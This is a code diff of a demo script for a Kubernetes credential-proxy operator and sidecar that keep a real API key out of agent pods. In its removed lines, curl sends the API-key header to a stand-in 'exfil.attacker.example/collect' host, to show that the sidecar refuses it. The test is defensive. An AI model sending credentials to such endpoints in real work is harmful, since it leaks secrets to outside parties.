@@ -1,45 +1,48 @@
-"""The README's first command (`make demo`): the whole oshu-vault flow on this machine.
+"""The README's first command (`make demo`): the whole oshu-vault flow on running pods.
 
-Starts a local control plane, installs the Helm chart, runs the operator as the chart's
-ServiceAccount, applies manifests/examples (a Secret with the real key, a VaultSession, a
-labelled Pod), shows the Pod the API server stored after injection, then runs the sidecar on
-the session Secret the operator wrote and sends two requests through it with curl: one to the
-allowed host (a local HTTPS stand-in for api.anthropic.com) that arrives with the real key,
-one to a host the session does not allow, which gets nothing. Every connection stays on
-127.0.0.1. Cleans up after itself; exits non-zero if any step does not behave as described.
+Starts a local cluster with a node (containerd, kubelet, ...; or uses yours, see below), builds
+the images here once (debootstrap base, Dockerfile.operator, Dockerfile.sidecar; later runs
+reuse them), `helm install`s the chart with them so the operator runs as a Pod behind the
+chart's webhook Service, starts a local HTTPS stand-in of an API as a pod with its own CA,
+applies manifests/examples (a Secret with the real key, a VaultSession, a labelled Pod; the
+host is the stand-in's and the image the demo's agent image), shows the Pod as the API server
+stored it after injection, then, inside the agent container (kubectl exec), sends the sealed
+token with curl: the stand-in receives the real key; the same token to a host the session does
+not allow gets nothing. Cleans up after itself; exits non-zero if a step does not behave as
+described.
+
+Your own cluster: OSHU_E2E_KUBECONFIG=<kubeconfig> and OSHU_E2E_REGISTRY=<registry/prefix>
+(images pushed there with podman; you are logged in) or OSHU_E2E_IMAGES=operator=REF,sidecar=REF,agent=REF.
 """
 
 from __future__ import annotations
 
-import base64
 import contextlib
+import copy
 import json
 import os
-import shutil
-import subprocess
+import secrets
 import sys
-import tempfile
 import textwrap
 import time
+from collections.abc import Iterator
 from pathlib import Path
-from typing import Any, Iterator
+from typing import Any
 
 from oshu_localkube import LocalCluster
+from oshu_localkube import node as lk_node
+from oshu_localkube.cluster import wait_for
 from oshu_operator import names as n
-from oshu_sidecar.pki import KeyPair
-from oshu_sidecar.session import loads_session
-from oshu_testkit.sessions import write_k8s_secret_dir
-from oshu_testkit.sidecar_process import SidecarProcess
-from oshu_testkit.upstreams import Upstream
 
-from . import examples, install
+from . import examples, pods, standin
 from .paths import CHART_DIR, EXAMPLES_DIR, REPO_ROOT
 
 RELEASE = "oshu-vault"
 NAMESPACE = "oshu-vault"
-ALLOWED_URL = "https://api.anthropic.com/echo/v1/messages"
-DISALLOWED_URL = "https://exfil.attacker.example/collect"
-STEPS = 7
+API_NAMESPACE = "oshu-demo-api"
+STEPS = 8
+#: How long to wait for the machine's one node if another session holds it.
+NODE_WAIT = float(os.environ.get("OSHU_NODE_WAIT", "600"))
 
 
 class DemoFailure(RuntimeError):
@@ -113,139 +116,183 @@ def show_pod(tell: Narrator, pod: dict[str, Any], real: str, sealed: str) -> Non
              "nowhere in the Pod object (checked).", 6)
 
 
-def session_files(cluster: LocalCluster, namespace: str, secret_name: str, directory: Path) -> dict[str, bytes]:
-    """The operator's session Secret, laid out the way kubelet mounts it into the sidecar."""
-    secret = install.get_json(cluster, "secret", secret_name, namespace)
-    files = {k: base64.b64decode(v) for k, v in secret["data"].items()}
-    write_k8s_secret_dir(directory, files)
-    return files
-
-
-def curl(url: str, sealed: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
-    return subprocess.run(
-        ["curl", "--silent", "--show-error", "--max-time", "15", "--write-out", "\n%{http_code} %{http_connect}",
-         "-H", f"x-api-key: {sealed}", "-H", "content-type: application/json",
-         "--data", '{"model": "claude", "messages": [{"role": "user", "content": "hi"}]}', url],
-        env=env, capture_output=True, text=True, timeout=30)
-
 
 @contextlib.contextmanager
-def _workdir() -> Iterator[Path]:
-    path = Path(tempfile.mkdtemp(prefix="oshu-demo-"))
+def cluster_for_demo(tell: Narrator) -> Iterator[tuple[Any, Any]]:
+    """(kube, node): the user's cluster (node None), or a fresh local node cluster, stopped after."""
+    external = pods.external_from_env()
+    if external is not None:
+        if not external.kubeconfig.is_file():
+            raise DemoFailure(f"OSHU_E2E_KUBECONFIG={external.kubeconfig}: no such file")
+        if not (os.environ.get("OSHU_E2E_REGISTRY") or os.environ.get("OSHU_E2E_IMAGES")):
+            raise DemoFailure("OSHU_E2E_KUBECONFIG needs OSHU_E2E_REGISTRY (images are pushed there) or "
+                              "OSHU_E2E_IMAGES=operator=REF,sidecar=REF,agent=REF")
+        tell.say(f"your cluster: KUBECONFIG={external.kubeconfig}")
+        yield external, None
+        return
+    deadline = time.monotonic() + NODE_WAIT
+    said = False
+    while True:
+        cluster = LocalCluster(node=True, ready_timeout=180, log=lambda m: tell.say(m, 8))
+        try:
+            cluster.start()
+            break
+        except lk_node.NodeBusyError as busy:
+            if time.monotonic() > deadline:
+                raise DemoFailure(f"the machine's node stays busy: {busy}") from None
+            if not said:
+                tell.say(f"waiting for the machine's node (one per machine): {busy}")
+                said = True
+            time.sleep(5)
     try:
-        yield path
+        yield cluster, cluster.node
     finally:
-        shutil.rmtree(path, ignore_errors=True)
+        cluster.stop()
+
+
+def demo_objects(agent_image: str, api_host: str, pull_policy: str) -> dict[str, Any]:
+    """manifests/examples, pointed at the stand-in (host) and the demo's agent image."""
+    docs = copy.deepcopy(examples.load())
+    for entry in docs["VaultSession"]["spec"]["secrets"]:
+        entry["hosts"] = [api_host]
+    docs["VaultSession"]["spec"]["egress"] = [api_host]
+    (container,) = docs["Pod"]["spec"]["containers"]
+    container.update(image=agent_image, imagePullPolicy=pull_policy, command=["sleep", "infinity"])
+    return docs
+
+
+def _cleanup(kube: Any, namespaces: list[str]) -> None:
+    kube.helm("uninstall", RELEASE, "--namespace", NAMESPACE, "--wait", "--timeout=120s", check=False)
+    for ns in namespaces:
+        kube.kubectl("delete", "namespace", ns, "--wait=false", "--ignore-not-found", check=False)
 
 
 def run(tell: Narrator) -> None:
-    tell.title("a real API key used by an agent pod that never holds it. Everything runs on 127.0.0.1.")
-    if not shutil.which("curl"):
-        raise DemoFailure("curl is needed for the client requests (apt-get install curl)")
-    with _workdir() as work, contextlib.ExitStack() as stack:
-        t = tell.begin("Local Kubernetes control plane: etcd, kube-apiserver, kube-controller-manager")
-        tell.say("(pinned builds from hack/localkube-go; no kubelet, so pods are admitted and stored but never run)")
-        cluster = stack.enter_context(LocalCluster(log=lambda m: tell.say(m, 8)))
-        tell.done(t, f"API server at {cluster.server}")
+    tell.title("a real API key used by an agent pod that never holds it.")
+    with contextlib.ExitStack() as stack:
+        t = tell.begin("A Kubernetes cluster with a node: pods really run")
+        kube, node = stack.enter_context(cluster_for_demo(tell))
+        if node is not None:
+            tell.say("local: etcd, kube-apiserver, controller-manager, scheduler, kubelet + containerd, kube-proxy, "
+                     "CoreDNS\n(pinned builds; addresses never leave this machine)")
+            tell.done(t, f"API server at {kube.server}")
+        else:
+            tell.done(t)
 
-        t = tell.begin(f"helm install {RELEASE} {_rel(CHART_DIR)} --namespace {NAMESPACE} --create-namespace")
-        installation, helm_seconds = install.helm_install(cluster, RELEASE, NAMESPACE, create_namespace=True,
-                                                          workdir=work / "install")
-        installed = [f"{d['kind']}/{d['metadata']['name']}" for d in installation.docs]
-        tell.say(textwrap.fill("installed: " + ", ".join(installed), 96, subsequent_indent="  ",
-                               break_on_hyphens=False, break_long_words=False))
-        tell.done(t, f"helm took {helm_seconds:.1f}s")
+        t = tell.begin("Images: Dockerfile.operator and Dockerfile.sidecar (local Debian base), an agent image")
+        registry = os.environ.get("OSHU_E2E_REGISTRY")
+        images = pods.images_from_env() or pods.prepare_images(node=node, registry=registry,
+                                                               log=lambda m: tell.say(m, 8))
+        tell.say(f"operator {images.operator}\nsidecar  {images.sidecar}\n         (trusts the API stand-in's CA "
+                 f"through the sidecar's own OSHU_UPSTREAM_CA_FILE)\nagent    {images.agent}")
+        tell.done(t)
 
-        t = tell.begin("The operator, run here as the chart's ServiceAccount")
-        tell.say(f"with a token of system:serviceaccount:{installation.namespace}:{installation.service_account} "
-                 "only, so the chart's RBAC is all it has;\nthe chart's Deployment arguments, but the webhook "
-                 f"serves on 127.0.0.1 and the chart's webhook configuration\n({installation.webhook_config}) is "
-                 "pointed there: without a kubelet its pod never runs.")
-        operator = stack.enter_context(installation.dev_operator(["--revocation-grace=2s"]))
-        installation.assert_webhook_is_local()
-        tell.done(t, f"operator ready (metrics and health on 127.0.0.1:{operator.metrics_port})")
+        docs = demo_objects(images.agent, standin.host(API_NAMESPACE), images.pull_policy)
+        ns = docs["Namespace"]["metadata"]["name"]
+        stack.callback(_cleanup, kube, [ns, API_NAMESPACE, NAMESPACE])
 
-        t = tell.begin(f"kubectl apply -f {_rel(EXAMPLES_DIR)}/")
-        docs = examples.load()
+        t = tell.begin(f"helm install {RELEASE} {_rel(CHART_DIR)} --namespace {NAMESPACE} --create-namespace --wait")
+        values = pods.chart_values(images)
+        tell.say(f"--set operator.image=...,sidecar.image=...,sidecar.noProxy={{{','.join(pods.NO_PROXY)}}}\n"
+                 "(noProxy without the .svc suffixes: the demo's API is a cluster Service name)")
+        seconds = pods.helm_install(kube, RELEASE, NAMESPACE, values)
+        pods.webhook_ready(kube, RELEASE)
+        op = pods.operator_pod(kube, NAMESPACE, RELEASE)
+        tell.say(f"the operator runs as Pod {NAMESPACE}/{op['metadata']['name']} with ServiceAccount "
+                 f"{op['spec']['serviceAccountName']};\nthe API server calls its webhook through the chart's "
+                 "Service, verifying the operator's own CA")
+        tell.done(t, f"helm took {seconds:.1f}s")
+
+        t = tell.begin("A local HTTPS stand-in of the API, as a pod with its own CA")
+        kube.kubectl("create", "namespace", API_NAMESPACE)
+        pods.apply(kube, standin.manifests(API_NAMESPACE, images.agent, images.pull_policy))
+        pods.pod_running(kube, API_NAMESPACE, standin.NAME)
+        api_host, other_host = standin.host(API_NAMESPACE), standin.host(API_NAMESPACE, standin.OTHER)
+        tell.say(f"https://{api_host} (the allowed host)\nhttps://{other_host} (same pod, a host the session "
+                 "does not allow)")
+        tell.done(t)
+
+        t = tell.begin(f"kubectl apply -f {_rel(EXAMPLES_DIR)}/  (host: the stand-in, image: the agent image)")
         real = examples.real_key(docs)
         session_name = docs["VaultSession"]["metadata"]["name"]
-        ns = examples.NAMESPACE
-        install.apply_docs(cluster, [docs["Namespace"], docs["Secret"], docs["VaultSession"]])
-        session = install.session_ready(cluster, ns, session_name)
+        pods.apply(kube, [docs["Namespace"], docs["Secret"], docs["VaultSession"]])
+        session = pods.session_ready(kube, ns, session_name)
         sealed = session["status"]["tokens"]["ANTHROPIC_API_KEY"]
         tell.say(f"Secret {ns}/anthropic holds the real key ({_short(real)}, {len(real)} characters)")
         tell.say(f"VaultSession {ns}/{session_name}: Ready; sealed token for ANTHROPIC_API_KEY: {sealed}")
-        tell.say(f"  the operator wrote Secret {ns}/{session['status']['secretName']} (session file, session CA, "
-                 "CA bundle) for the sidecar")
-        install.apply_docs(cluster, [docs["Pod"]])
-        pod = install.get_json(cluster, "pod", docs["Pod"]["metadata"]["name"], ns)
-        tell.done(t, f"Pod {ns}/{pod['metadata']['name']} admitted (label {n.LABEL_SESSION}={session_name})")
+        pods.apply(kube, [docs["Pod"]])
+        pod_name = docs["Pod"]["metadata"]["name"]
+        pod = pods.pod_running(kube, ns, pod_name)
+        tell.done(t, f"Pod {ns}/{pod_name} running (label {n.LABEL_SESSION}={session_name})")
 
         t = tell.begin("The Pod as the API server stored it, after the webhook injected it")
         show_pod(tell, pod, real, sealed)
+        statuses = {s["name"]: s for s in pod["status"].get("initContainerStatuses", [])}
+        sidecar_status = statuses.get(n.SIDECAR_CONTAINER, {})
+        app_status = {s["name"]: s for s in pod["status"].get("containerStatuses", [])}.get("agent", {})
+        _check(bool(sidecar_status.get("ready")), "the sidecar is not ready")
+        sidecar_started = sidecar_status.get("state", {}).get("running", {}).get("startedAt", "")
+        app_started = app_status.get("state", {}).get("running", {}).get("startedAt", "")
+        _check(bool(sidecar_started) and sidecar_started <= app_started,
+               "the agent container started before the sidecar")
+        tell.say(f"kubelet: {n.SIDECAR_CONTAINER} started and ready before the agent container started")
         tell.done(t)
 
-        t = tell.begin("The sidecar, run here on that session Secret, and a client request to the allowed host")
-        mount = work / "session-mount"
-        files = session_files(cluster, ns, session["status"]["secretName"], mount)
-        bundle = work / "ca-bundle.pem"  # what the pod sees at the CA_BUNDLE path
-        bundle.write_bytes(files[n.KEY_CA_BUNDLE])
-        upstream = stack.enter_context(Upstream(names=("api.anthropic.com",), directory=work / "upstream"))
-        sidecar = stack.enter_context(SidecarProcess(
-            loads_session(files[n.KEY_SESSION_FILE]), upstream=upstream, directory=work / "sidecar",
-            session_path=mount / n.KEY_SESSION_FILE,
-            ca=KeyPair(files[n.KEY_CA_CERT], files[n.KEY_CA_KEY])))
-        tell.say(f"stand-in for api.anthropic.com: HTTPS on 127.0.0.1:{upstream.port} with its own test CA, which "
-                 "the sidecar trusts\n(--upstream-ca-file) and reaches with --connect-to; the client trusts only "
-                 "the pod's CA bundle")
-        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(work),
-               "HTTPS_PROXY": sidecar.proxy_url, "HTTP_PROXY": sidecar.proxy_url,
-               "CURL_CA_BUNDLE": str(bundle)}
-        tell.say(f"$ HTTPS_PROXY={sidecar.proxy_url} CURL_CA_BUNDLE=<the pod's {n.KEY_CA_BUNDLE}> \\\n"
-                 f"    curl -H 'x-api-key: {_short(sealed, 20)}' --data '{{...}}' {ALLOWED_URL}")
-        before = len(upstream.requests)
-        result = curl(ALLOWED_URL, sealed, env)
-        body, _, codes = result.stdout.rpartition("\n")
-        _check(result.returncode == 0 and codes.split()[0] == "200",
-               f"the allowed request failed: curl exit {result.returncode}, {result.stderr.strip()} {codes}")
-        _check(len(upstream.requests) == before + 1, "the stand-in API did not receive the request")
-        received = upstream.last.header("x-api-key")
-        _check(received == real, "the stand-in API did not receive the real key")
-        echoed = json.loads(body)
-        echoed_key = next(v for k, v in echoed["headers"] if k.lower() == "x-api-key")
-        tell.say(f"-> HTTP 200. The stand-in received x-api-key: {_short(received)} = the real key from the Secret.")
-        tell.say(f"   It echoed its request headers back; the client got x-api-key: {_short(echoed_key, 20)} "
-                 "(the proxy scrubs the real key from responses).")
-        _check(real not in result.stdout, "the real key reached the client in the response")
+        t = tell.begin("Inside the agent container: curl with the sealed token to the allowed host")
+        url = f"https://{api_host}/v1/messages"
+        tag = secrets.token_hex(3)
+        command = pods.clients(url, tag, env_name="ANTHROPIC_API_KEY")["curl"]
+        tell.say(f"$ kubectl -n {ns} exec {pod_name} -c agent -- sh -c \\\n"
+                 f"    'curl -H \"x-api-key: $ANTHROPIC_API_KEY\" --data {{...}} {url}'")
+        result = pods.exec_in(kube, ns, pod_name, command)
+        code = result.stdout.strip()
+        _check(result.returncode == 0 and code == "200", f"the allowed request failed: {code} {result.stderr.strip()}")
+        received = [r for r in standin.requests_seen(kube, API_NAMESPACE) if pods.client_of(r) == f"curl-{tag}"]
+        _check(len(received) == 1, "the stand-in API did not receive the request")
+        got = standin.credential(received[0])
+        _check(got == real, "the stand-in API did not receive the real key")
+        tell.say(f"-> HTTP 200. The stand-in received x-api-key: {_short(got or '')} = the real key from the Secret;")
+        tell.say(f"   the agent sent {_short(sealed, 20)} (its only credential), its sidecar swapped it.")
         tell.done(t)
 
         t = tell.begin("The same sealed token, sent to a host the session does not allow")
-        tell.say(f"$ curl -H 'x-api-key: {_short(sealed, 20)}' --data '{{...}}' {DISALLOWED_URL}")
-        before = len(upstream.requests)
-        result = curl(DISALLOWED_URL, sealed, env)
-        connect_code = result.stdout.rsplit("\n", 1)[-1].split()[-1] if result.stdout else "?"
-        _check(result.returncode != 0, "the request to a host outside the session succeeded")
-        _check(len(upstream.requests) == before, "something reached an upstream")
-        refusal = sidecar.wait_for_log(lambda r: "exfil.attacker.example" in json.dumps(r), timeout=10)
-        tell.say(f"-> refused: the proxy answered the CONNECT with {connect_code} (curl: "
-                 f"{result.stderr.strip().removeprefix('curl: ')}); no connection was made, nothing was sent.")
-        tell.say(f"   sidecar log: {json.dumps({k: v for k, v in refusal.items() if k != 'ts'})}")
-        logs = sidecar.log_text() + operator.log_text()
-        _check(real not in logs, "the real key appears in the sidecar or operator log")
+        bad = pods.clients(f"https://{other_host}/collect", tag + "x", env_name="ANTHROPIC_API_KEY")["curl"]
+        tell.say(f"$ curl -H \"x-api-key: $ANTHROPIC_API_KEY\" --data {{...}} https://{other_host}/collect")
+        result = pods.exec_in(kube, ns, pod_name, bad)
+        _check(result.stdout.strip() != "200", "the request to a host outside the session succeeded")
+        time.sleep(1)
+        leaked = [r for r in standin.requests_seen(kube, API_NAMESPACE) if (r.get("host") or "").startswith(standin.OTHER)]
+        _check(not leaked, "something reached the stand-in under the disallowed host")
+
+        def refusal_logged() -> str:
+            logs = kube.kubectl("-n", ns, "logs", pod_name, "-c", n.SIDECAR_CONTAINER).stdout
+            return next((line for line in logs.splitlines() if other_host in line), "")
+
+        try:
+            refusal = wait_for(refusal_logged, timeout=10, what="the sidecar's audit line", interval=0.5)
+        except TimeoutError:
+            refusal = ""
+        logs = kube.kubectl("-n", ns, "logs", pod_name, "-c", n.SIDECAR_CONTAINER).stdout
+        curl_said = (result.stderr.strip().splitlines() or [""])[0].removeprefix("curl: ")
+        tell.say(f"-> refused (curl: {curl_said[:120]}); nothing reached the host.")
+        if refusal:
+            tell.say(f"   sidecar log: {refusal[:300]}")
+        op_logs = kube.kubectl("-n", NAMESPACE, "logs", op["metadata"]["name"], check=False).stdout
+        _check(real not in logs + op_logs, "the real key appears in the sidecar or operator log")
         tell.say("Neither the sidecar's nor the operator's log contains the real key (checked).")
         tell.done(t)
-
-        print("\nCleaning up: stopping the sidecar, the stand-in API, the operator and the control plane "
-              "(its state directory is removed).", flush=True)
+        print("\nCleaning up: helm uninstall, the demo's namespaces"
+              + (", and the local cluster (its state directory is removed)." if node is not None else "."), flush=True)
     summary = f"""
 {_bold("What this showed")} ({time.monotonic() - tell.started:.0f}s in all):
-  - One `helm install` gave the cluster the VaultSession CRD, the operator's Deployment, its
-    least-privilege RBAC and the injection webhook; the operator ran with that RBAC alone.
+  - One `helm install` with the images built from Dockerfile.operator and Dockerfile.sidecar
+    ran the operator as a Pod under the chart's ServiceAccount; the API server reached its
+    injection webhook through the chart's Service and TLS.
   - A VaultSession turned the Secret's real key into a sealed token; a pod opted in with one
-    label and got the proxy sidecar, the sealed token, proxy and CA variables. The real key is in
-    neither the pod spec nor anything the agent container mounts.
-  - Through the sidecar, an unmodified client (curl with HTTPS_PROXY and the CA bundle) sent the
-    sealed token and api.anthropic.com received the real key; the key sent anywhere else: refused.
+    label, got the native proxy sidecar (ready before the agent started), the sealed token,
+    proxy and CA variables. The real key is in neither the pod spec nor the agent container.
+  - Inside the agent container, curl sent the sealed token and the API received the real key;
+    the same token sent to any other host: refused, nothing sent.
 """
     print(summary, flush=True)
 
@@ -257,7 +304,7 @@ def main() -> int:
     except KeyboardInterrupt:
         print("\ndemo interrupted; cleaned up", file=sys.stderr)
         return 130
-    except Exception as e:  # noqa: BLE001 - the demo's contract: a clear message and exit 1
+    except Exception as e:
         print(f"\nDEMO FAILED at step {tell.step}: {type(e).__name__}: {e}", file=sys.stderr)
         return 1
     return 0
